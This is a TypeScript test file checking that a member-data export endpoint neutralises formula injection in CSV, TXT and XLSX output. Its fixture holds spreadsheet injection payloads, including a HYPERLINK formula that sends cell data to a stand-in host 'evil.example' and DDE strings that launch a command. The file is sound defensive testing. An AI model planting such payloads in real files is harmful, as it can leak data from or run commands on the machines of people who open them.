import Excel from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import type { AnswerOf } from '@tessera/domain/contracts/contract';
import type { extractionContract } from '@tessera/domain/contracts/exports';

type ExtractionAnswer = AnswerOf<typeof extractionContract>;
import { api } from '../support/api';
import { buildWorld, ORG_A, updateMember, type World } from '../support/world';

/** Member data that looks like a formula is written so no spreadsheet runs it (OWASP CSV injection). */
const extract = (token: string | undefined, body: unknown) => api<ExtractionAnswer>('POST', '/v1/members/extraction', { token, body });
const textOf = (res: { body: ExtractionAnswer }) => Buffer.from(res.body.result, 'base64').toString('utf8');

const HOSTILE = {
  surname: '=HYPERLINK("http://evil.example/?"&A1,"Rossi")',
  name: "+cmd|' /C calc'!A0",
  email: "@SUM(1+1)*cmd|' /C calc'!A0",
  phone: '+39 333 1234567',
  birthPlace: '-2+3',
};

describe('POST /v1/members/extraction: formula-leading cells are neutralized', () => {
  let world: World;
  beforeAll(async () => {
    world = await buildWorld();
    await updateMember(ORG_A, 'm1', HOSTILE);
  });
  const columns = ['surname', 'name', 'email', 'phone', 'birthPlace'];

  it("CSV: a leading ' before =, +, -, @; a plain phone number stays readable", async () => {
    const res = await extract(world.tokens.orgAdmin, { columns, format: 'csv', filters: { group: 'g1' } });
    expect(res.status).toBe(200);
    const row = textOf(res).split('\r\n')[1];
    expect(row).toBe(
      [
        `"'=HYPERLINK(""http://evil.example/?""&A1,""Rossi"")"`,
        "'+cmd|' /C calc'!A0",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        '+39 333 1234567',
        "'-2+3",
      ].join(';'),
    );
  });

  it("TXT: the same leading ' (tabs inside a value become spaces)", async () => {
    await updateMember(ORG_A, 'm1', { birthPlace: '\t=1+1' });
    const res = await extract(world.tokens.orgAdmin, { columns, format: 'txt', filters: { group: 'g1' } });
    const row = textOf(res).split('\r\n')[1]!.split('\t');
    expect(row).toEqual([`'${HOSTILE.surname}`, `'${HOSTILE.name}`, `'${HOSTILE.email}`, HOSTILE.phone, "' =1+1"]);
  });

  it('XLSX: the values as typed, in string cells with the text format, never a formula', async () => {
    const res = await extract(world.tokens.orgAdmin, { columns, format: 'xlsx', filters: { group: 'g1' } });
    const wb = new Excel.Workbook();
    const bytes = Buffer.from(res.body.result, 'base64');
    await wb.xlsx.load(bytes.buffer.slice(bytes.byteOffset, bytes.byteOffset + bytes.length));
    const row = wb.worksheets[0]!.getRow(2);
    for (let c = 1; c <= columns.length; c++) {
      const cell = row.getCell(c);
      expect(cell.type).toBe(Excel.ValueType.String);
      expect(cell.formula).toBeUndefined();
      expect(cell.numFmt).toBe('@');
    }
    expect(row.getCell(1).value).toBe(HOSTILE.surname);
    expect(row.getCell(4).value).toBe(HOSTILE.phone);
  });
});
